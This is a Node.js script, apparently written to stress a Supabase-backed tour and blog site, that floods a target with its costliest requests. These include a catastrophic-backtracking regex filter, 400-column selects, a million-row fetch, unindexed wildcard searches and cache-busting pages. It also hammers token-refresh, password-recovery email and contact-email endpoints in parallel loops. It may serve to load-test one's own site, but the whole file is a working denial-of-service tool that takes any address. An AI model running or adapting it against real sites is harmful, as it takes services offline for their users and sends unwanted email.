/**
 * An anonymous client that sends a site the requests that cost it most, many at a time, until standard input ends.
 * Arguments: the site's address, its public key, how many of each kind at once, what of: `data` and `pages` with a
 * pause after each answer, or one of `calls` without. Prints the number of answers by status at the end, as JSON.
 */
import { Agent, request } from "node:http";
import { setTimeout } from "node:timers/promises";

const [site = "", key = "", count = "1", what = "data"] = process.argv.slice(2);
const many = Number(count);
const localAddress = "127.0.0.2";
const columns = (/** @type {number} */ number) =>
  Array.from({ length: number }, (_, at) => `c${at}:content`).join(",");
const data = [
  // A pattern that takes seconds and hundreds of megabytes to compile.
  `/rest/v1/blog_posts?select=id&content=match.${encodeURIComponent("(((a|b|c){1,60}){1,60}d){1,20}")}`,
  // The same column many times, as often as is let through and more often.
  `/rest/v1/blog_posts?select=${columns(400)}`,
  `/rest/v1/blog_posts?select=${columns(50)}`,
  // As many rows as there are, counted.
  "/rest/v1/tours?select=*&limit=1000000",
  // A search that no index answers, over the longest texts.
  `/rest/v1/blog_posts?select=id&or=(${Array.from({ length: 20 }, (_, at) => `content.ilike.*${at}x*y*z*`).join()})`,
];
/** None of them is cached: the number at the end is another each time. */
const pages = ["/es/contact?tour=", "/en/nowhere-", "/fr/tours?q="];
/** @type {Record<string, (number: number) => { path: string, body?: object }>} */
const calls = {
  refresh: (number) => ({
    path: "/auth/v1/token?grant_type=refresh_token",
    body: { refresh_token: `token-${number}` },
  }),
  recover: (number) => ({ path: "/auth/v1/recover", body: { email: `a${number}@example.com` } }),
  enquiry: (number) => ({
    path: "/functions/v1/send-contact-email",
    body: { name: "Attacker", email: "a@example.com", message: `Mensaje número ${number}.` },
  }),
  preview: (number) => ({ path: `/es/preview/${number.toString(16).padStart(64, "0")}` }),
  search: (number) => ({ path: `/es/search?q=entrada+${number}` }),
  page: (number) => ({ path: `/es/contact?tour=${number}` }),
  picture: (number) => ({ path: `/storage/v1/object/public/tour-images/missing-${number}.jpg` }),
  read: (number) => ({ path: `/rest/v1/blog_posts?select=id,title&slug=neq.${number}` }),
};
const call = calls[what];
/** Between an answer and the next request. */
const pauseMs = call ? 0 : 500;
const paths = call ? [""] : what === "pages" ? pages : data;
let asked = 0;
/** @type {Record<string, number>} */
const statuses = {};
const agent = new Agent({ keepAlive: true, maxSockets: many * paths.length });
let stopped = false;
process.stdin.resume().on("end", () => {
  stopped = true;
});

/** @param {string} path @returns {Promise<void>} */
const ask = (path) =>
  new Promise((resolve) => {
    const note = (/** @type {string | number} */ what) => {
      statuses[what] = (statuses[what] ?? 0) + 1;
      resolve();
    };
    // An address of its own: those with many connections lose the idle ones.
    asked += 1;
    const given = call?.(asked) ?? { path: path + (what === "pages" ? asked : "") };
    const body = given.body && JSON.stringify(given.body);
    const sent = request(site + given.path, {
      agent,
      localAddress,
      method: body ? "POST" : "GET",
      headers: { apikey: key, ...(body && { "content-type": "application/json" }) },
    });
    sent.on("response", (response) => {
      response.resume().on("close", () => note(response.statusCode ?? "none"));
    });
    sent.on("error", (/** @type {NodeJS.ErrnoException} */ { code }) => {
      // The server may close an idle connection just when it is used again.
      if (sent.reusedSocket && code === "ECONNRESET") void ask(path).then(resolve);
      else note(`broken: ${code}`);
    });
    sent.end(body);
  });

await Promise.all(
  paths.flatMap((path) =>
    Array.from({ length: many }, async () => {
      while (!stopped) {
        await ask(path);
        if (pauseMs > 0) await setTimeout(pauseMs);
      }
    }),
  ),
);
agent.destroy();
console.log(JSON.stringify(statuses));
